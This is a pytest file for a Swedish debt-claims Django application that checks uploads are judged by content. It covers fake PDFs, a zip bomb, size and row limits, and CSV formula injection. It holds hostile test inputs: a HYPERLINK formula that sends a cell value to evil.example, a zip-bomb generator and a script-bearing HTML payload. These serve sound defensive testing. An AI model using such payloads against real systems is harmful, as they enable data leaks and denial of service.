"""Uploads judged by their content, never their names: the invoice PDF at registration and an
objection's documents in Mitt Ärende refuse what is not a PDF (or image), a bomb and what is
too large, with a clear error, and store nothing (no row, no file). The CSV import refuses a
file over its limits; a formula in a cell is stored as the text it is."""

import csv
import io
import zipfile
from datetime import date

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from pypdf import PdfWriter

from claims.csv_import import MAX_ROWS, render_csv
from claims.models import Claim, ClaimImport, Dispute, DisputeAttachment, Invoice, Step
from letters.models import Letter
from tests.conftest import registration_data

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1;"Klicka")'


def pdf_bytes() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def zip_bomb() -> bytes:
    """A small zip that inflates to 50 MB of zeros."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.txt", b"\0" * (50 * 1024 * 1024))
    return out.getvalue()


def bad_files(limit: int) -> dict:
    return {
        "text named .pdf": b"Hej, det h\xc3\xa4r \xc3\xa4r ingen PDF.\n" * 20,
        "html named .pdf": b"<html><body><script>alert(1)</script></body></html>",
        "zip bomb named .pdf": zip_bomb(),
        "a PDF header on rubbish": b"%PDF-1.7\n" + b"\x00garbage" * 200,
        "just over the limit": pdf_bytes() + b" " * (limit + 1 - len(pdf_bytes())),
    }


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


def stored_files(media) -> list:
    return [p for p in media.rglob("*") if p.is_file()]


# --- the invoice PDF at registration ---------------------------------------------------------


@pytest.mark.parametrize("kind", ["text named .pdf", "html named .pdf", "zip bomb named .pdf",
                                  "a PDF header on rubbish", "just over the limit"])
def test_a_bad_invoice_pdf_is_refused_and_nothing_stored(alice_client, media, settings, kind):
    content = bad_files(settings.INVOICE_PDF_MAX_BYTES)[kind]
    upload = SimpleUploadedFile("faktura.pdf", content, content_type="application/pdf")
    response = alice_client.post("/arenden/nytt/", {**registration_data(), "pdf": upload})
    assert response.status_code == 200  # the form again
    errors = response.context["form"].errors["pdf"]
    assert errors and any(("PDF" in e) for e in errors), errors
    assert not Claim.objects.exists() and not Invoice.objects.exists()
    assert stored_files(media) == []


def test_a_real_pdf_is_taken(alice_client, media):
    # The refusals above are about content: the same form with a PDF registers.
    upload = SimpleUploadedFile("faktura.pdf", pdf_bytes(), content_type="application/pdf")
    response = alice_client.post("/arenden/nytt/", {**registration_data(), "pdf": upload})
    assert response.status_code == 302
    assert len(stored_files(media)) == 1


# --- an objection's documents in Mitt Ärende -------------------------------------------------


@pytest.mark.parametrize("kind", ["text named .pdf", "html named .pdf", "zip bomb named .pdf",
                                  "a PDF header on rubbish", "just over the limit",
                                  "four documents"])
def test_a_bad_attachment_refuses_the_objection_and_stores_nothing(visitor, world, media, kind):
    from claims.documents import ATTACHMENT_MAX_BYTES

    claim = world["claim"]
    if kind == "four documents":
        files = [SimpleUploadedFile(f"k{n}.pdf", pdf_bytes(), content_type="application/pdf")
                 for n in range(4)]
    else:
        files = [SimpleUploadedFile("kvitto.pdf", bad_files(ATTACHMENT_MAX_BYTES)[kind],
                                    content_type="application/pdf")]
    disputes = Dispute.objects.count()
    response = visitor.post(f"/mitt-arende/arenden/{claim.pk}/bestrid/",
                            {"reason": "already_paid", "text": "Betalt", "attachments": files})
    assert response.status_code == 400
    form = response.context["dispute_form"]
    assert form.errors, kind
    assert Dispute.objects.count() == disputes
    assert DisputeAttachment.objects.filter(dispute__claim=claim).count() == 0
    assert stored_files(media) == []
    claim.refresh_from_db()
    assert claim.status == world["claim"].status


def test_a_good_attachment_is_taken(visitor, world, media):
    claim = world["claim"]
    response = visitor.post(f"/mitt-arende/arenden/{claim.pk}/bestrid/", {
        "reason": "already_paid", "text": "Betalt",
        "attachments": [SimpleUploadedFile("kvitto.pdf", pdf_bytes(),
                                           content_type="application/pdf")]})
    assert response.status_code == 302
    assert DisputeAttachment.objects.filter(dispute__claim=claim).count() == 1


# --- the CSV import --------------------------------------------------------------------------


def csv_row(n: int, **overrides) -> dict:
    data = registration_data(invoice_number=f"F-{n}", **overrides)
    data["reminder_fee_agreed"] = "ja"
    data["debtor_kind"] = "privatperson"
    return data


def test_a_csv_over_the_size_limit_is_refused(alice_client, settings):
    settings.CSV_IMPORT_MAX_BYTES = 4096  # the real limit is MB; the rule is the same
    data = render_csv([csv_row(n) for n in range(40)]).encode()
    assert len(data) > 4096
    response = alice_client.post("/import/", {"file": SimpleUploadedFile("f.csv", data)})
    assert response.status_code == 400
    assert "MB" in " ".join(response.context["form"].errors["file"])
    assert not ClaimImport.objects.exists() and not Claim.objects.exists()


def test_a_csv_over_the_row_limit_is_refused(alice_client):
    data = render_csv([csv_row(n) for n in range(MAX_ROWS + 1)]).encode()
    response = alice_client.post("/import/", {"file": SimpleUploadedFile("f.csv", data)})
    assert response.status_code == 400
    assert str(MAX_ROWS) in " ".join(response.context["form"].errors["file"]).replace(" ", "") \
        .replace("\xa0", "")
    assert not ClaimImport.objects.exists() and not Claim.objects.exists()


@pytest.mark.parametrize("content", [b"\x00\x01\x02\xff\xfe" * 100, b"PK\x03\x04" + b"\0" * 4000,
                                     b"%PDF-1.4\n%%EOF", b""],
                         ids=["binary", "zip", "pdf", "empty"])
def test_a_csv_that_is_no_csv_is_refused(alice_client, content):
    response = alice_client.post("/import/", {"file": SimpleUploadedFile("f.csv", content)})
    assert response.status_code == 400
    assert response.context["form"].errors
    assert not ClaimImport.objects.exists()


def test_a_formula_cell_is_stored_as_text(alice_client):
    data = render_csv([csv_row(1, debtor_name=FORMULA, description="=1+1")]).encode()
    response = alice_client.post("/import/", {"file": SimpleUploadedFile("f.csv", data)})
    assert response.status_code == 302
    claim_import = ClaimImport.objects.get()
    row = claim_import.rows[0]
    assert row["values"]["debtor_name"] == FORMULA and not row["errors"], row
    page = alice_client.get(f"/import/{claim_import.pk}/").content.decode()
    assert "=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1;&quot;Klicka&quot;)" in page


def test_the_print_manifest_escapes_formulas(world, settings, tmp_path):
    from letters.services import print_batch_close

    settings.MEDIA_ROOT = tmp_path
    claim = world["claim"]
    day = date(2026, 11, 24)  # a Tuesday
    step = Step.objects.create(claim=claim, kind="demand", taken_on=day, deadline=day)
    Letter.objects.create(claim=claim, step=step, kind="demand", state="to_print", channel="print",
                          letter_date=day, content={"debtor": {
                              "name": FORMULA, "street": "+46 Gatan", "postal_code": "1",
                              "city": "@SUM(A1)"}},
                          pdf=ContentFile(pdf_bytes(), name="d.pdf"))
    batch = print_batch_close(day=day)
    assert batch is not None
    manifest = batch.manifest.open("rb").read().decode("utf-8-sig")
    for cell in list(csv.reader(io.StringIO(manifest), delimiter=";"))[1]:
        assert not cell.startswith(("=", "+", "-", "@")), cell


def test_a_debtor_s_document_reaches_the_creditor_as_a_download(visitor, world, media,
                                                                alice_client):
    """What a debtor sent is never rendered inline in the creditor's browser."""
    claim = world["claim"]
    visitor.post(f"/mitt-arende/arenden/{claim.pk}/bestrid/", {
        "reason": "already_paid", "text": "Betalt",
        "attachments": [SimpleUploadedFile("<script>.html.pdf", pdf_bytes(),
                                           content_type="text/html")]})
    attachment = DisputeAttachment.objects.get(dispute__claim=claim)
    assert attachment.content_type == "application/pdf"  # from the content, not the browser
    response = alice_client.get(f"/bestridanden/bilagor/{attachment.pk}/")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    assert response["Content-Type"] == "application/pdf"
    assert response["X-Content-Type-Options"] == "nosniff"
